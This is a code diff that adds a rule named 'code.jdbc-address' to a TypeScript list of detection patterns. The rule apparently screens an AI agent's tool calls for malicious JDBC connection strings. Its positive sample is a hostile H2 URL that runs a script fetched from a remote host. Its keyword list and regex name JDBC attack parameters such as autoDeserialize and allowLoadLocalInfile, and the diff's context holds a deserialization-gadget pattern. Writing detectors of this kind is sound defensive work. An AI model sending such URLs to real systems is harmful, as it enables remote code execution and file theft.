@@ -73,4 +73,18 @@ export const java: readonly PatternRule[] = [
     pattern: /(?:^|[^A-Za-z0-9+/])BAh(?:v[A-Za-z0-9+/]{8}|bC[A-Za-z0-9+/]{8})|(?:^|[^\w\s])[^ -~\u0080-\uffff]{2}o:|\\x04\\x08\[?o:?|(?:^|[^0-9a-f])04085b0[68]|Gem::(?:Requirement|Installer|Package|StubSpecification)|ActiveSupport::Deprecation::DeprecatedInstanceVariableProxy|ERB\.new\s*\(/,
     accepts: ({ 0: match }, view, at) => !isTalk(view, at, at + match.length),
   },
+  {
+    id: 'code.jdbc-address',
+    type: 'code_injection',
+    severity: 'high',
+    sees: 'a database address that makes the driver run a script, build objects or hand out files',
+    positive: { tool: 'test_connection', arguments: { url: "jdbc:h2:mem:a;INIT=RUNSCRIPT FROM 'http://198.51.100.7/a.sql'" } },
+    nearMiss: { tool: 'test_connection', arguments: { url: 'jdbc:postgresql://db.example.com/app?socketTimeout=5&ssl=true' } },
+    source: 'Make JDBC attacks brilliant again, HITB 2021; CVE-2022-21724',
+    roles: ALL_ROLES,
+    literals: ['runscript from', 'autodeserialize=true', 'socketfactory=org.', 'allowloadlocalinfile=true', 'allowurlinlocalinfile=true', 'create alias', 'clientrerouteserverjndiname', 'loggerfile='],
+    pattern: /jdbc:[^\s]{1,160}?(?:INIT\s?=\s?(?:RUNSCRIPT|CREATE)|autoDeserialize=true|(?:socketFactory|sslfactory)=org\.springframework|allowLoadLocalInfile=true|allowUrlInLocalInfile=true|clientRerouteServerJNDIName=|loggerFile=)/i,
+    before: 180,
+    accepts: ({ 0: match }, view, at) => !isTalk(view, at, at + match.length),
+  },
 ];
